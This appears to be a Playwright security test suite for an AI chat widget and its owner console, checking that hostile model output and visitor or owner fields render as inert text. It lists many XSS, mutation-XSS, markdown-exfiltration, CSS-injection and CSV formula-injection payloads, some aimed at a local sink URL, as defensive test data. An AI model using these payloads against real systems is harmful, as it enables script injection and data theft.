import { createServer } from "node:http"
import type { BrowserContext, Frame, Page } from "@playwright/test"
import {
  ask,
  buyTicket,
  call,
  expectCall,
  newAddress,
  openSession,
  openShop,
  returnsPolicy,
  returnsQuestion,
  type Session,
  type Shop,
  waitForSource,
  wideLimits,
} from "../counter.ts"
import type { Deployment } from "../deployment.ts"
import { listenOnLoopback, say } from "../fake-model.ts"
import { test as base, expect } from "../fixtures.ts"
import { shopPage } from "../sites.ts"
import { makePeople } from "../walls/two-tenants.ts"
import { openWidget } from "../widget.ts"

// What comes out: a model that says whatever harms, visitors and owners whose every field is an attack. Nothing
// runs, nothing is fetched, and no element appears that our own code did not make. In Chromium.

type Sink = { origin: string; hits: string[] }

const test = base.extend<{ sink: Sink }>({
  sink: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a function wants from it
    async ({}, use) => {
      const hits: string[] = []
      const server = createServer((request, response) => {
        hits.push(request.url ?? "")
        response.writeHead(200, { "access-control-allow-origin": "*" }).end()
      })
      const port = await listenOnLoopback(server)
      await use({ origin: `http://sink.localhost:${port}`, hits })
      server.closeAllConnections()
      server.close()
    },
    { scope: "test" },
  ],
})

const listPayloads = (sink: string): string[] => [
  "<script>window.pwned=1;top.pwned=1</script>",
  `<script src="${sink}/s.js"></script>`,
  "<img src=x onerror=\"window.pwned=1;parent.postMessage(1,'*')\">",
  `<img src="${sink}/i">`,
  `<img srcset="${sink}/a 1x, ${sink}/b 2x">`,
  "<svg onload=window.pwned=1></svg>",
  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
  `<svg><image href="${sink}/svg"/><use href="${sink}/u#x"/></svg>`,
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  `<iframe src="${sink}/f"></iframe>`,
  `<object data="${sink}/o"></object><embed src="${sink}/e">`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
  '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  `<style>*{background:url(${sink}/css)}@import "${sink}/import";</style>`,
  `<div style="background:url(${sink}/inline)">x</div>`,
  `<form action="${sink}/form"><input name=q autofocus onfocus=window.pwned=1></form>`,
  `<base href="${sink}/">`,
  `<link rel="stylesheet" href="${sink}/l"><link rel="prefetch" href="${sink}/p"><link rel="dns-prefetch" href="//sink.localhost">`,
  `<meta http-equiv="refresh" content="0;url=${sink}/m">`,
  `<video src="${sink}/v" poster="${sink}/po"></video><audio src="${sink}/a"></audio>`,
  "<details open ontoggle=window.pwned=1>x</details>",
  '<a href="javascript:window.pwned=1">x</a>',
  "<x onclick=window.pwned=1 style=position:fixed;inset:0>x</x>",
  `![picture](${sink}/?q=secret)`,
  `![picture][ref]\n\n[ref]: ${sink}/ref`,
  `[![x](${sink}/a.png)](${sink}/b)`,
  "[a](javascript:window.pwned=1)",
  "[a](JaVa\tScRiPt:window.pwned=1)",
  "[a](data:text/html,<script>window.pwned=1</script>)",
  "[a](vbscript:msgbox)",
  `[a](${sink}/?q=secret)`,
  `<${sink}/autolink>`,
  `${sink}/bare`,
  "```html\n<img src=x onerror=window.pwned=1>\n```",
  "`<img src=x onerror=window.pwned=1>`",
  "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| [x](javascript:window.pwned=1) | c |",
  "# <script>window.pwned=1</script>",
  "> <iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "- <img src=x onerror=window.pwned=1>",
  "</div></section></main><script>window.pwned=1</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection, on purpose
  "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
  "\u202e<img src=x onerror=window.pwned=1>\u202c",
]

/** What stands below `selector` that only an attack would have made. */
function findForeign(view: Page | Frame, selector: string): Promise<string[]> {
  return view.evaluate((root) => {
    const found: string[] = []
    const forbidden = "img,script,iframe,object,embed,base,link,meta,style,video,audio,math,x"
    for (const element of document.querySelectorAll(`:is(${root}) *`)) {
      if (element.matches(forbidden)) found.push(element.outerHTML.slice(0, 120))
      for (const { name, value } of element.attributes) {
        if (/^on|^srcdoc$|^srcset$|^formaction$/.test(name))
          found.push(`${element.tagName} ${name}`)
        const isAddress = ["href", "src", "action", "xlink:href"].includes(name)
        const isOurs =
          value.startsWith("#") || new URL(value, location.href).origin === location.origin
        if (isAddress && !isOurs) found.push(`${element.tagName} ${name}=${value.slice(0, 80)}`)
      }
    }
    const hasRun = (["pwned"] as const).some((name) => name in window)
    return hasRun ? [...found, "a script ran"] : found
  }, selector)
}

async function signInAsOwner(
  deployment: Deployment,
  shop: Shop,
  context: BrowserContext,
): Promise<void> {
  const cookie = await (await makePeople(deployment))(shop.tenantId, "owner")
  const at = cookie.indexOf("=")
  const [name, value] = [cookie.slice(0, at), cookie.slice(at + 1)]
  await context.addCookies([{ name, value, url: deployment.appUrl }])
}

/** Everything that goes wrong in a page without being seen. */
function watch(page: Page): string[] {
  const accidents: string[] = []
  page.on("pageerror", (error) => accidents.push(`threw ${error.message}`))
  page.on("dialog", (dialog) => {
    accidents.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on("request", (request) => {
    if (request.url().includes("sink.localhost")) accidents.push(`asked ${request.url()}`)
  })
  return accidents
}

const snippet = (deployment: Deployment, key: string) =>
  `<script async src="${deployment.widgetUrl}/embed.js" data-key="${key}"></script>`

async function visitConsole(deployment: Deployment, page: Page, path: string): Promise<string[]> {
  await page.goto(deployment.appUrl + path)
  await expect(page.getByRole("heading").first()).toBeVisible()
  return findForeign(page, "main, [role=dialog]")
}

test("I19 I21 whatever a model says runs nothing, fetches nothing and makes no element, in widget and console", async ({
  deployment,
  sites,
  sink,
  page,
  context,
}) => {
  test.setTimeout(120_000)
  const shop = await openShop(deployment, { origin: sites.shop.origin, limits: wideLimits })
  await page.goto(sites.shop.publish("/evil", shopPage(snippet(deployment, shop.key))))
  const accidents = watch(page)
  const frame = await openWidget(page)
  const payloads = listPayloads(sink.origin)
  let answered = 0
  for (let at = 0; at < payloads.length; at += 6) {
    const answer = payloads.slice(at, at + 6).join("\n\n")
    const field = frame.getByRole("textbox").first()
    await field.fill(`${returnsQuestion} ${say(answer)}`)
    await field.press("Enter")
    answered += 1
    await expect(frame.getByRole("button", { name: "Helpful", exact: true })).toHaveCount(answered)
  }
  // The payloads are there, as the letters they are.
  await expect(frame.locator("#chat")).toContainText("<script>window.pwned=1")
  await expect(frame.locator("#chat")).toContainText("<form><math><mtext>")
  expect(await findForeign(frame, "#chat")).toEqual([])
  expect(await page.evaluate(() => "pwned" in window)).toBe(false)
  const policy = (await call(deployment, `/embed?key=${shop.key}`)).headers.get(
    "content-security-policy",
  )!
  expect(/img-src ([^;]+)/.exec(policy)![1]).toBe("'self' data:")
  expect(/default-src ([^;]+)/.exec(policy)![1]).toBe("'none'")

  await signInAsOwner(deployment, shop, context)
  const list = await shop.api<{ data: { id: string }[] }>("/v1/conversations")
  const bot = `/console/${shop.tenantId}/bots/${shop.botId}`
  const thread = `${bot}/conversations/${list.body.data[0]!.id}`
  for (const path of [`${bot}/conversations`, thread, bot])
    expect([path, await visitConsole(deployment, page, path)]).toEqual([path, []])
  await page.goto(deployment.appUrl + thread)
  await expect(page.locator("main")).toContainText("<script>window.pwned=1")
  expect(accidents).toEqual([])
  expect(sink.hits).toEqual([])
})

async function openHostileSession(
  deployment: Deployment,
  shop: Shop,
  bad: string,
): Promise<Session> {
  const ticket = await buyTicket(deployment, shop)
  return expectCall<Session>(deployment, 201, "/api/embed/session", {
    ip: newAddress(),
    headers: { "user-agent": bad.replaceAll(/[^\x20-\x7e]/g, ""), referer: `${shop.origin}/` },
    body: {
      ticket,
      page: {
        url: `${shop.origin}/x"><img src=x onerror=window.pwned=1>`,
        title: bad,
        language: '"><img src=x onerror=pwned=1>',
      },
    },
  })
}

test("I23 nothing that a visitor sends runs in the owner's console: lists, threads, leads, refusals, search", async ({
  deployment,
  sites,
  sink,
  page,
  context,
}) => {
  test.setTimeout(120_000)
  const shop = await openShop(deployment, { origin: sites.shop.origin, limits: wideLimits })
  const accidents = watch(page)
  const payloads = listPayloads(sink.origin)
  for (const bad of payloads.slice(0, 12)) {
    const { token } = await openHostileSession(deployment, shop, bad)
    const headers = { authorization: `Bearer ${token}` }
    await ask(deployment, token, `${returnsQuestion} ${bad}`)
    const name = bad.replaceAll(/\s+/g, " ").slice(0, 120)
    for (const email of ["eve@example.com", `"<img/src=x/onerror=pwned=1>"@example.com`])
      await call(deployment, "/api/embed/leads", {
        headers,
        body: { name, email, message: bad },
        ip: newAddress(),
      })
    await call(deployment, "/api/embed/ticket", {
      headers: { origin: `https://x"><img src=x onerror=pwned=1>.example` },
      body: { key: shop.key },
      ip: newAddress(),
    })
  }
  await signInAsOwner(deployment, shop, context)
  const tenant = `/console/${shop.tenantId}`
  const bot = `${tenant}/bots/${shop.botId}`
  const list = await shop.api<{ data: { id: string }[] }>("/v1/conversations")
  const paths = [
    `${bot}/conversations`,
    `${bot}/conversations?filter=unanswered`,
    ...list.body.data.slice(0, 4).map(({ id }) => `${bot}/conversations/${id}`),
    `${tenant}/leads`,
    `${bot}/embed`,
    `${bot}/embed/${shop.keyId}`,
    `${bot}/quality/gaps`,
    `${tenant}/audit`,
    `${tenant}/usage`,
    bot,
    tenant,
  ]
  for (const path of paths) {
    const foreign = await visitConsole(deployment, page, path)
    // The widget's own frame stands on some pages; it is ours.
    const planted = foreign.filter((each) => !each.includes(deployment.widgetUrl))
    expect([path, planted]).toEqual([path, []])
  }
  await page.goto(`${deployment.appUrl}${tenant}/leads`)
  await expect(page.locator("main")).toContainText("<script>window.pwned=1")
  await page.keyboard.press("ControlOrMeta+k")
  await page.getByRole("dialog").getByRole("combobox").fill("<img src=x onerror=window.pwned=1>")
  expect(await findForeign(page, "[role=dialog]")).toEqual([])
  expect(accidents).toEqual([])
  expect(sink.hits).toEqual([])
})

test("I24 a hostile title of a source is letters; a mark of what was never found is dropped", async ({
  deployment,
  sites,
  sink,
  page,
  context,
}) => {
  const shop = await openShop(deployment, { origin: sites.shop.origin, limits: wideLimits })
  const bad = `<img src=x onerror=window.pwned=1>![x](${sink.origin}/t)[y](javascript:pwned=1)`
  await shop.api(`/v1/sources/${shop.sourceId}`, { method: "DELETE" })
  const made = await shop.api<{ id: string }>(`/v1/bots/${shop.botId}/sources`, {
    body: { title: bad, text: `${returnsPolicy}\n\n# ${bad}\n\n${bad}` },
  })
  await waitForSource(shop.api, made.body.id)
  await page.goto(sites.shop.publish("/cited", shopPage(snippet(deployment, shop.key))))
  const accidents = watch(page)
  const frame = await openWidget(page)
  const answer =
    "You can return any item within 30 days of delivery [1]. As is well known [99] [-1]."
  await frame
    .getByRole("textbox")
    .first()
    .fill(`${returnsQuestion} ${say(answer)}`)
  await frame.getByRole("textbox").first().press("Enter")
  await frame.locator(".sources .tag").first().click()
  await expect(frame.getByRole("region", { name: "Source 1" })).toContainText("onerror")
  await expect(frame.locator("#chat")).not.toContainText("99")
  expect(await findForeign(frame, "#chat")).toEqual([])
  await signInAsOwner(deployment, shop, context)
  const list = await shop.api<{ data: { id: string }[] }>("/v1/conversations")
  const bot = `/console/${shop.tenantId}/bots/${shop.botId}`
  for (const path of [
    `${bot}/conversations/${list.body.data[0]!.id}`,
    `${bot}/knowledge`,
    `${bot}/knowledge?source=${made.body.id}`,
  ])
    expect([path, await visitConsole(deployment, page, path)]).toEqual([path, []])
  expect(accidents).toEqual([])
  expect(sink.hits).toEqual([])
})

test("I25 an owner's name, greeting and colour stay that, in the launcher, the frame and the console", async ({
  deployment,
  sites,
  sink,
  page,
  context,
}) => {
  const shop = await openShop(deployment, { origin: sites.shop.origin, limits: wideLimits })
  const bad = `</script><script>window.pwned=1</script><img src="${sink.origin}/b" onerror=pwned=1>`
  const change = (body: object) => shop.api(`/v1/bots/${shop.botId}`, { method: "PATCH", body })
  for (const color of [
    "red;}body{display:none",
    `url(${sink.origin}/c)`,
    "javascript:alert(1)",
    "expression(alert(1))",
    "#12345",
    "#123456;--x:1",
    "var(--x)",
    "</style><script>1</script>",
  ])
    expect([color, (await change({ color })).status]).toEqual([color, 422])
  for (const key of ["logo", "css", "customCss", "avatar", "script"])
    expect([key, (await change({ [key]: bad })).status]).toEqual([key, 422])
  const look = {
    name: bad.slice(0, 60),
    greeting: bad,
    label: bad.slice(0, 30),
    starters: [bad.slice(0, 60)],
  }
  const changed = await change(look)
  expect([changed.status, changed.text]).toEqual([200, changed.text])
  const { text: html } = await call(deployment, `/embed?key=${shop.key}`)
  expect(html).not.toContain("pwned")
  const accidents = watch(page)
  await page.goto(sites.shop.publish("/look", shopPage(snippet(deployment, shop.key))))
  const frame = await openWidget(page)
  await expect(frame.locator("#chat")).toContainText("</script><script>window.pwned=1")
  expect(await findForeign(frame, "#chat")).toEqual([])
  expect(await page.evaluate(() => "pwned" in window)).toBe(false)
  await signInAsOwner(deployment, shop, context)
  const bot = `/console/${shop.tenantId}/bots/${shop.botId}`
  for (const path of [bot, `${bot}/settings`, `${bot}/tools`]) {
    const foreign = await visitConsole(deployment, page, path)
    const planted = foreign.filter((each) => !each.includes(deployment.widgetUrl))
    expect([path, planted]).toEqual([path, []])
  }
  expect(accidents).toEqual([])
  expect(sink.hits).toEqual([])
})

test("I19 what a spreadsheet opens of it is text: an export's cells begin no formula", async ({
  deployment,
  sites,
  page,
  context,
}) => {
  const shop = await openShop(deployment, { origin: sites.shop.origin })
  const { token } = await openSession(deployment, shop)
  for (const name of ['=HYPERLINK("http://sink.localhost")', "+1+cmd|' /C calc'!A0", "@SUM(1)"])
    await expectCall(deployment, 201, "/api/embed/leads", {
      headers: { authorization: `Bearer ${token}` },
      body: { name, email: "eve@example.com" },
      ip: newAddress(),
    })
  await signInAsOwner(deployment, shop, context)
  await page.goto(`${deployment.appUrl}/console/${shop.tenantId}/leads`)
  const download = page.waitForEvent("download")
  await page
    .getByRole("button", { name: /export|download/i })
    .first()
    .click()
  const stream = await (await download).createReadStream()
  let csv = ""
  for await (const part of stream) csv += part
  expect(csv).toContain("HYPERLINK")
  expect(csv).not.toMatch(/(?:^|[,;\n])"?[=+@]/m)
})
